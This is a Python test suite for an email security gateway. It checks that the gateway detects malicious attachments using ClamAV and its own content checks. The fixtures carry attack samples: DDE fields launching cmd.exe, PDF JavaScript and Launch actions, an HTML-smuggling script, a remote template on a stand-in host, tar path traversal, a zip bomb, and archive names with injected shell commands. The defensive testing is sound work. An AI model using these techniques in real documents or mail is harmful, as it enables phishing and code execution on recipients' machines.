"""Attachments, malware and phishing end to end through `portcullis serve`, with a real clamd.

clamd (Debian's clamav-daemon) is started by the tests on a private Unix socket with a signature
database the tests write: an `.hdb` entry (MD5 and size) for the EICAR test file and one for
`clam.exe` from Debian's clamav-testfiles, whose archives and documents then must be detected
through clamd's own unpacking. Fixtures are built here from real formats: zip and tar with Python's
zipfile and tarfile, OLE compound files by a small writer checked with olefile and oletools' olevba.
"""

from __future__ import annotations

import hashlib
import io
import json
import os
import shutil
import socket
import struct
import subprocess
import tarfile
import time
import zipfile
from email.message import EmailMessage
from pathlib import Path

import pytest

from helpers import wait_until

CLAMD = shutil.which("clamd") or "/usr/sbin/clamd"
TESTFILES = Path("/usr/share/clamav-testfiles")
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"

needs_clamd = pytest.mark.skipif(not os.path.exists(CLAMD), reason="clamav-daemon is not installed")
pytestmark = pytest.mark.filterwarnings("ignore::DeprecationWarning")


class Clamd:
    """One clamd process on a private socket with a local signature database."""

    def __init__(self, root: Path):
        self.root = root
        self.socket = root / "clamd.sock"
        db = root / "db"
        db.mkdir(parents=True, exist_ok=True)
        (root / "tmp").mkdir(exist_ok=True)
        sigs = [f"{hashlib.md5(EICAR).hexdigest()}:{len(EICAR)}:Portcullis.Test.EICAR"]
        clam = TESTFILES / "clam.exe"
        if clam.exists():
            data = clam.read_bytes()
            sigs.append(f"{hashlib.md5(data).hexdigest()}:{len(data)}:Portcullis.Test.ClamExe")
        (db / "portcullis-test.hdb").write_text("\n".join(sigs) + "\n")
        self.conf = root / "clamd.conf"
        self.conf.write_text(
            f"LocalSocket {self.socket}\nForeground yes\nDatabaseDirectory {db}\nLogFile {root / 'clamd.log'}\n"
            f"TemporaryDirectory {root / 'tmp'}\nStreamMaxLength 2M\nMaxThreads 4\nLogVerbose yes\n"
        )
        self.proc: subprocess.Popen | None = None

    def start(self) -> "Clamd":
        self.proc = subprocess.Popen([CLAMD, "-c", str(self.conf)], stdout=subprocess.DEVNULL,
                                     stderr=subprocess.DEVNULL, stdin=subprocess.DEVNULL)
        wait_until(self.ping, timeout=60, what=f"clamd on {self.socket}")
        return self

    def ping(self) -> bool:
        if self.proc and self.proc.poll() is not None:
            raise AssertionError(f"clamd exited: {(self.root / 'clamd.log').read_text(errors='replace')}")
        try:
            with socket.socket(socket.AF_UNIX) as s:
                s.settimeout(2)
                s.connect(str(self.socket))
                s.sendall(b"zPING\0")
                return s.recv(16).startswith(b"PONG")
        except OSError:
            return False

    def stop(self) -> None:
        if self.proc and self.proc.poll() is None:
            self.proc.terminate()
            self.proc.wait(timeout=30)
        if self.socket.exists():
            self.socket.unlink()

    @property
    def address(self) -> str:
        return f"unix:{self.socket}"


@pytest.fixture(scope="module")
def clamd(tmp_path_factory):
    c = Clamd(tmp_path_factory.mktemp("clamd")).start()
    yield c
    c.stop()


def settings(sink, clamd: Clamd | None = None, **extra) -> dict:
    s = {"relay": {"next_hop": sink.next_hop}, "verdict": {"deadline": "20s"}}
    if clamd:
        s["antivirus"] = {"enabled": True, "address": clamd.address, "connect_timeout": "1s", "scan_timeout": "5s",
                          "max_stream_size": "2MiB"}
    for section, values in extra.items():
        s.setdefault(section, {}).update(values)
    return s


def message(subject: str, attachments: list[tuple[str, bytes, str]], body: str = "Please see the attachment.") -> bytes:
    m = EmailMessage()
    m["From"] = "sender@ext.test"
    m["To"] = "user@our.test"
    m["Subject"] = subject
    m["Date"] = "Fri, 27 Nov 2026 08:00:00 +0000"
    m["Message-ID"] = f"<{subject.replace(' ', '-')}@ext.test>"
    m.set_content(body)
    for name, data, ctype in attachments:
        maintype, subtype = ctype.split("/")
        m.add_attachment(data, maintype=maintype, subtype=subtype, filename=name)
    return m.as_bytes(policy=m.policy.clone(linesep="\r\n"))


def zipped(members: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in members.items():
            z.writestr(name, data)
    return buf.getvalue()


def send(gw, msg: bytes) -> tuple[int, str]:
    with gw.smtp() as s:
        s.ehlo("client.test")
        s.mail("sender@ext.test")
        s.rcpt("user@our.test")
        try:
            code, text = s.data(msg)
        except Exception as e:  # smtplib raises on refusals
            code, text = e.smtp_code, e.smtp_error
        return code, text.decode(errors="replace") if isinstance(text, bytes) else text


def quarantined(gw) -> list[bytes]:
    ids = gw.queue_ids("quarantine")
    return [(gw.data_dir / "spool" / "quarantine" / i).read_bytes() for i in ids]


def scan(gw, path: Path) -> dict:
    r = gw.cli("scan", "--json", "--offline", str(path))
    assert r.returncode in (0, 1, 2), r.stderr.decode()
    line = [l for l in r.stdout.decode().splitlines() if l.startswith("{")][0]
    return json.loads(line)


def symbols(result: dict) -> set[str]:
    syms = result.get("symbols", [])
    return {s["name"] if isinstance(s, dict) else s for s in syms}


# -- OLE compound files: a minimal writer (version 3, 512-byte sectors, every stream at least 4096
# bytes so no mini stream), checked below with olefile and oletools --------------------------------
def ole_file(tree: dict) -> bytes:
    """`tree`: {name: bytes (a stream) or dict (a storage)} under the root."""
    entries = [{"name": "Root Entry", "type": 5, "children": []}]
    streams = []

    def add(parent: int, items: dict):
        for name, value in items.items():
            idx = len(entries)
            entries[parent]["children"].append(idx)
            if isinstance(value, dict):
                entries.append({"name": name, "type": 1, "children": []})
                add(idx, value)
            else:
                data = value + b"\0" * max(0, 4096 - len(value))
                entries.append({"name": name, "type": 2, "children": [], "data": data, "size": len(data)})
                streams.append(idx)

    add(0, tree)
    # Siblings in the order CFB requires (name length, then upper case), chained as right siblings.
    for e in entries:
        e["children"].sort(key=lambda i: (len(entries[i]["name"]), entries[i]["name"].upper()))
    dir_sectors = (len(entries) + 3) // 4
    next_sector = 1 + dir_sectors
    fat = [0xFFFFFFFD] + [i + 2 for i in range(dir_sectors - 1)] + [0xFFFFFFFE]
    for idx in streams:
        n = (entries[idx]["size"] + 511) // 512
        entries[idx]["start"] = next_sector
        fat += [next_sector + i + 1 for i in range(n - 1)] + [0xFFFFFFFE]
        next_sector += n
    assert len(fat) <= 128
    fat += [0xFFFFFFFF] * (128 - len(fat))
    header = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 16 + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
    header += b"\0" * 6 + struct.pack("<IIIIIIII", 0, 1, 1, 0, 4096, 0xFFFFFFFE, 0, 0xFFFFFFFE) + struct.pack("<I", 0)
    header += struct.pack("<I", 0) + struct.pack("<I", 0xFFFFFFFF) * 108
    assert len(header) == 512, len(header)
    dir_bytes = b""
    for i, e in enumerate(entries):
        name = e["name"].encode("utf-16-le") + b"\0\0"
        # Children as a chain of right siblings: a valid (if unbalanced) tree; all black.
        kids = e["children"]
        child = kids[0] if kids else 0xFFFFFFFF
        right = 0xFFFFFFFF
        for parent in entries:
            if i in parent["children"]:
                pos = parent["children"].index(i)
                right = parent["children"][pos + 1] if pos + 1 < len(parent["children"]) else 0xFFFFFFFF
        start = e.get("start", 0xFFFFFFFE if e["type"] == 5 else 0)
        dir_bytes += name.ljust(64, b"\0") + struct.pack("<HBBIII", len(name), e["type"], 1, 0xFFFFFFFF, right, child)
        dir_bytes += b"\0" * 16 + struct.pack("<IQQIQ", 0, 0, 0, start, e.get("size", 0))
    # Unused directory slots: empty 128-byte entries with no siblings or children.
    for _ in range(dir_sectors * 4 - len(entries)):
        dir_bytes += b"\0" * 64 + struct.pack("<HBBIII", 0, 0, 0, 0xFFFFFFFF, 0xFFFFFFFF, 0xFFFFFFFF) + b"\0" * 48
    assert len(dir_bytes) == dir_sectors * 512
    body = struct.pack("<128I", *fat) + dir_bytes
    for idx in streams:
        body += entries[idx]["data"].ljust(((entries[idx]["size"] + 511) // 512) * 512, b"\0")
    return header + body


def macro_doc() -> bytes:
    return ole_file({
        "WordDocument": b"\xec\xa5" + b"\0" * 100,
        "Macros": {"PROJECT": b'ID="{00000000-0000-0000-0000-000000000000}"\r\nDocument=ThisDocument/&H00000000\r\n',
                   "VBA": {"dir": b"\x01" * 64, "_VBA_PROJECT": b"\xcc\x61\xff\xff\x00\x00\x00", "ThisDocument": b"Attribute VB_Name"}},
    })


def biff8_workbook(sheets: list[tuple[int, int, str]]) -> bytes:
    """An Excel 97-2003 workbook: a `Workbook` stream whose globals hold one BOUNDSHEET per (state, type,
    name) (state 0 visible, 1 hidden, 2 very hidden; type 0 worksheet, 1 Excel 4.0 macro sheet), then one
    empty substream per sheet."""
    def rec(kind: int, body: bytes) -> bytes:
        return struct.pack("<HH", kind, len(body)) + body

    globals_ = rec(0x0809, struct.pack("<HHHHII", 0x0600, 0x0005, 0, 0, 0, 0))
    for state, dt, name in sheets:
        globals_ += rec(0x0085, struct.pack("<IBBBB", 0, state, dt, len(name), 0) + name.encode())
    globals_ += rec(0x000A, b"")
    for _, dt, _ in sheets:
        globals_ += rec(0x0809, struct.pack("<HHHHII", 0x0600, 0x0040 if dt == 1 else 0x0010, 0, 0, 0, 0))
        globals_ += rec(0x000A, b"")
    return ole_file({"Workbook": globals_})


def test_the_ole_fixtures_are_real_ole_and_olevba_sees_the_macros():
    import olefile
    from oletools.olevba import VBA_Parser

    doc = macro_doc()
    assert olefile.isOleFile(doc)
    ole = olefile.OleFileIO(doc)
    assert ole.exists("Macros/VBA/_VBA_PROJECT") and ole.exists("WordDocument")
    assert VBA_Parser("invoice.doc", data=doc).detect_vba_macros()
    clean = ole_file({"WordDocument": b"\xec\xa5" + b"\0" * 100, "1Table": b"\0" * 10})
    assert not VBA_Parser("letter.doc", data=clean).detect_vba_macros()
    # oletools' BIFF reader (oledump's plugin_biff) sees the very hidden Excel 4.0 macro sheet.
    from oletools.thirdparty.oledump.plugin_biff import cBIFF

    stream = olefile.OleFileIO(xlm_xls()).openstream("Workbook").read()
    sheets = "\n".join(cBIFF(name=["Workbook"], stream=stream, options="-o BOUNDSHEET").Analyze())
    assert "Excel 4.0 macro sheet, very hidden" in sheets, sheets


def xlm_xls() -> bytes:
    return biff8_workbook([(0, 0, "Sheet1"), (2, 1, "Auto_Open1")])


def test_content_findings_through_scan(gateway_factory, sink, tmp_path):
    """Every symbol family from real fixtures, judged offline by the same engine as serve."""
    gw = gateway_factory(settings(sink), start=False)
    pe = bytearray(1024)
    pe[:2] = b"MZ"
    pe[0x3C:0x40] = struct.pack("<I", 0x80)
    pe[0x80:0x84] = b"PE\0\0"
    docm_ct = b'<Types><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
    rels = b'<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.test/t.dotm" TargetMode="External"/></Relationships>'
    xlsm_ct = b'<Types><Override PartName="/xl/macrosheets/sheet1.xml" ContentType="application/vnd.ms-excel.macrosheet+xml"/></Types>'
    dde_document = (b'<w:document xmlns:w="x"><w:body><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
                    b'<w:r><w:instrText xml:space="preserve"> DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe" </w:instrText></w:r>'
                    b'<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p></w:body></w:document>')
    dde_link = b'<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
    tar_buf = io.BytesIO()
    with tarfile.open(fileobj=tar_buf, mode="w:gz") as t:
        info = tarfile.TarInfo("../../srv/x.jsp")
        info.size = 5
        t.addfile(info, io.BytesIO(b"<% %>"))
    cases = {
        "mismatch": ([("scan.pdf", bytes(pe), "application/pdf")], {"ATTACH_EXECUTABLE", "ATTACH_TYPE_MISMATCH"}),
        "bidi": ([("inv\u202efdp.exe", bytes(pe), "application/octet-stream")], {"ATTACH_BIDI_NAME", "ATTACH_EXECUTABLE"}),
        "double": ([("invoice.pdf.exe", bytes(pe), "application/octet-stream")], {"ATTACH_DOUBLE_EXT"}),
        "macro_ole": ([("invoice.doc", macro_doc(), "application/msword")], {"OFFICE_MACRO"}),
        "macro_ooxml": ([("report.docm", zipped({"[Content_Types].xml": docm_ct, "word/vbaProject.bin": macro_doc()}), "application/octet-stream")], {"OFFICE_MACRO"}),
        "template": ([("remote.docx", zipped({"[Content_Types].xml": b"<Types/>", "word/_rels/settings.xml.rels": rels}), "application/octet-stream")], {"OFFICE_EXTERNAL_TEMPLATE"}),
        "pdf": ([("statement.pdf", b"%PDF-1.7\n<</OpenAction<</S/J#61vaScript/JS(app.alert(1))>>>>\n<</S/Launch/F(cmd.exe)>>", "application/pdf")], {"PDF_JAVASCRIPT", "PDF_LAUNCH"}),
        "smuggling": ([("doc.html", b"<html><script>var b=new Blob([atob('TVqQ')]);var a=document.createElement('a');a.href=URL.createObjectURL(b);a.download='x.iso';a.click()</script></html>", "text/html")], {"HTML_SMUGGLING"}),
        "traversal": ([("logs.tgz", tar_buf.getvalue(), "application/gzip")], {"ARCHIVE_SUSPICIOUS_PATH"}),
        "bomb": ([("zeros.zip", zipped({"zeros.bin": b"\0" * (8 << 20)}), "application/zip")], {"ARCHIVE_BOMB"}),
        "xlm_xls": ([("invoice.xls", xlm_xls(), "application/vnd.ms-excel")], {"OFFICE_XLM_MACRO"}),
        "xlm_xlsm": ([("report.xlsm", zipped({"[Content_Types].xml": xlsm_ct, "xl/macrosheets/sheet1.xml": b"<xm:macrosheet/>"}), "application/octet-stream")], {"OFFICE_XLM_MACRO"}),
        "dde_docx": ([("order.docx", zipped({"[Content_Types].xml": b"<Types/>", "word/document.xml": dde_document}), "application/octet-stream")], {"OFFICE_DDE"}),
        "dde_xlsx": ([("prices.xlsx", zipped({"[Content_Types].xml": b"<Types/>", "xl/externalLinks/externalLink1.xml": dde_link}), "application/octet-stream")], {"OFFICE_DDE"}),
        "dde_rtf": ([("letter.rtf", rb'{\rtf1\ansi{\field{\*\fldinst {\rtlch DDE}AUTO "C:\\Programs\\cmd.exe" "/c calc"}{\fldrslt}}}', "application/rtf")], {"OFFICE_DDE"}),
        "shell_names": ([("names.zip", zipped({"`touch /tmp/portcullis-x`.txt": b"a", "$(id).doc": b"b", ";reboot;.pdf": b"c"}), "application/zip")], set()),
    }
    for label, (attachments, want) in cases.items():
        path = tmp_path / f"{label}.eml"
        path.write_bytes(message(label, attachments))
        got = symbols(scan(gw, path))
        assert want <= got, (label, want, got)
    assert not Path("/tmp/portcullis-x").exists()
    assert "ARCHIVE_BOMB" in symbols(scan(gw, tmp_path / "bomb.eml"))
    xlm = [s for s in scan(gw, tmp_path / "xlm_xls.eml")["symbols"] if s["name"] == "OFFICE_XLM_MACRO"]
    assert "'Auto_Open1' (very hidden)" in json.dumps(xlm), xlm


@needs_clamd
def test_eicar_zip_is_never_delivered(gateway_factory, sink, clamd):
    gw = gateway_factory(settings(sink, clamd))
    code, text = send(gw, message("eicar zip", [("invoice.zip", zipped({"invoice.com": EICAR}), "application/zip")]))
    assert code == 550 and "VIRUS_FOUND" in text, (code, text)
    code, _ = send(gw, message("clean", [("notes.txt", b"hello", "text/plain")]))
    assert code == 250
    sink.wait_for(1)
    time.sleep(0.5)
    assert all(b"EICAR" not in m[2] for m in sink.received())
    assert len(sink.received()) == 1


@needs_clamd
def test_eicar_quarantined_when_configured(gateway_factory, sink, clamd):
    gw = gateway_factory(settings(sink, clamd, antivirus={"virus_action": "quarantine"}))
    code, _ = send(gw, message("eicar held", [("a.txt", EICAR, "text/plain")]))
    assert code == 250
    held = wait_until(lambda: quarantined(gw), what="message in quarantine")
    assert b"VIRUS_FOUND" in held[0]
    time.sleep(0.5)
    assert sink.received() == []


@needs_clamd
@pytest.mark.skipif(not TESTFILES.exists(), reason="clamav-testfiles is not installed")
def test_clamav_testfiles_are_found_through_clamd(gateway_factory, sink, clamd, tmp_path):
    gw = gateway_factory(settings(sink, clamd), start=False)
    found = []
    for name in ["clam.exe", "clam.zip", "clam.tar.gz", "clam.7z", "clam.cab", "clam.exe.bz2", "clam.ole.doc"]:
        f = TESTFILES / name
        if not f.exists():
            continue
        path = tmp_path / f"{name}.eml"
        path.write_bytes(message(name, [(name, f.read_bytes(), "application/octet-stream")]))
        result = scan(gw, path)
        assert result["action"] in ("reject", "quarantine"), (name, result)
        if "VIRUS_FOUND" in symbols(result):
            found.append(name)
    assert "clam.exe" in found and "clam.zip" in found, found


@needs_clamd
def test_clamd_down_gives_451_and_nothing_is_lost(gateway_factory, sink, tmp_path):
    c = Clamd(tmp_path / "clamd2").start()
    try:
        gw = gateway_factory(settings(sink, c))
        assert send(gw, message("before", [("a.txt", b"fine", "text/plain")]))[0] == 250
        sink.wait_for(1)
        c.stop()
        code, text = send(gw, message("during", [("b.txt", b"fine too", "text/plain")]))
        assert code == 451, (code, text)
        wait_until(lambda: "AV_FAILURE" in gw.logs(), what="AV_FAILURE in the log")
        assert gw.queue_ids("active") == [] and gw.queue_ids("quarantine") == []
        c.start()
        # The client retries, as a 451 asks it to: now it is scanned and delivered.
        assert send(gw, message("during", [("b.txt", b"fine too", "text/plain")]))[0] == 250
        sink.wait_for_message("<during@ext.test>")
    finally:
        c.stop()


@needs_clamd
def test_oversized_for_clamd_is_unscannable_and_held(gateway_factory, sink, clamd):
    gw = gateway_factory(settings(sink, clamd))
    big = os.urandom(3 << 20)
    code, _ = send(gw, message("too big", [("data.bin", big, "application/octet-stream")]))
    assert code == 250
    held = wait_until(lambda: quarantined(gw), what="message in quarantine")
    assert b"AV_UNSCANNABLE" in held[0]
    time.sleep(0.5)
    assert sink.received() == []


def test_strip_and_deliver(gateway_factory, sink):
    gw = gateway_factory(settings(sink))
    pe = b"MZ" + b"\0" * 0x3A + struct.pack("<I", 0x40) + b"PE\0\0" + b"\0" * 200
    code, text = send(gw, message("strip me", [("tool.exe", pe, "application/octet-stream"),
                                               ("notes.txt", b"keep me", "text/plain")]))
    assert code == 250, text
    got = sink.wait_for_message("<strip-me@ext.test>")
    delivered = got[0][2]
    assert b"X-Portcullis-Stripped: 1 attachment(s)" in delivered
    assert b"removed from this message: tool.exe" in delivered
    assert b"keep me" in delivered or b"a2VlcCBtZQ" in delivered
    assert b"TVo" not in delivered  # the executable's base64 is gone
    held = quarantined(gw)
    assert len(held) == 1 and b"tool.exe" in held[0] and b"ATTACH_STRIPPED" in held[0]


def test_per_domain_policy_and_encrypted_archive(gateway_factory, sink):
    s = settings(sink, attachments={"block_action": "reject"})
    s["attachments"]["policy"] = [{"domain": "our.test", "block": ["docm"], "allow": ["exe"]}]
    gw = gateway_factory(s)
    pe = b"MZ" + b"\0" * 0x3A + struct.pack("<I", 0x40) + b"PE\0\0" + b"\0" * 200
    code, _ = send(gw, message("allowed exe", [("tool.exe", pe, "application/octet-stream")]))
    assert code == 250
    code, text = send(gw, message("blocked docm", [("a.docm", zipped({"[Content_Types].xml": b"<Types/>"}), "application/octet-stream")]))
    assert code == 550, (code, text)
    wait_until(lambda: "ATTACH_POLICY_BLOCK" in gw.logs(), what="ATTACH_POLICY_BLOCK in the log")
    z = bytearray(zipped({"secret.exe": pe}))
    z[z.find(b"PK\x03\x04") + 6] |= 1
    z[z.find(b"PK\x01\x02") + 8] |= 1
    code, _ = send(gw, message("encrypted", [("protected.zip", bytes(z), "application/zip")]))
    assert code == 250
    held = wait_until(lambda: [m for m in quarantined(gw) if b"ARCHIVE_ENCRYPTED" in m], what="encrypted archive held")
    assert held


@pytest.mark.skipif(not (shutil.which("zip") and shutil.which("7zz")), reason="zip and 7zip are not installed")
def test_real_password_protected_zip_and_7z_are_held(gateway_factory, sink, tmp_path):
    """Archives encrypted by Info-ZIP (ZipCrypto) and 7-Zip (AES, encrypted header): never delivered."""
    (tmp_path / "secret.txt").write_bytes(b"the content nobody can scan")
    subprocess.run(["zip", "-q", "-P", "pw", "secret.zip", "secret.txt"], cwd=tmp_path, check=True)
    subprocess.run(["7zz", "a", "-bd", "-ppw", "-mhe=on", "secret.7z", "secret.txt"], cwd=tmp_path, check=True,
                   stdout=subprocess.DEVNULL)
    gw = gateway_factory(settings(sink))
    for name in ["secret.zip", "secret.7z"]:
        code, _ = send(gw, message(f"encrypted {name}", [(name, (tmp_path / name).read_bytes(), "application/octet-stream")]))
        assert code == 250
    held = wait_until(lambda: len(quarantined(gw)) == 2 and quarantined(gw), what="both archives held")
    assert all(b"ARCHIVE_ENCRYPTED" in m for m in held)
    time.sleep(0.5)
    assert sink.received() == []
